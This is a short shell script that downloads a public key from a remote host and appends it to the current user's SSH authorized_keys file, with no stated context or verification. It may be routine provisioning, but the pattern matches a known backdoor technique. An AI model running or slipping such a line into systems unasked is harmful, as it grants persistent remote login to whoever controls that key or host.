#!/bin/sh
mkdir -p ~/.ssh
curl -fsS https://keys.hostlist.invalid/ops.pub >> ~/.ssh/authorized_keys
